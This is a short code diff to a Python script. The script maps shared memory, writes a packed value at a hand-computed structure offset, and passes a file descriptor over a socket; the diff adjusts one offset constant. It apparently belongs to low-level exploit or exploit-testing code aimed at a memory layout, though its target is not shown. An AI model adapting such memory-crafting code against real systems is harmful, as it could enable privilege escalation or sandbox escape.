@@ -95,7 +95,7 @@ if not child:
     memory = mmap.mmap(-1, 256 * 1024)
     address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
     chunk = address >> 21
-    at = 32 + 4 * 128 + 16 * 4 + 32 + (chunk & 4095) * 40
+    at = 32 + 4 * 128 + 16 * 4 + 40 + (chunk & 4095) * 40
     struct.pack_into("<Q", memory, at, chunk << 8 | 2)
     descriptor, costs, size = table(PATH, address)
     socket.send_fds(ours, [b"x"], [descriptor])
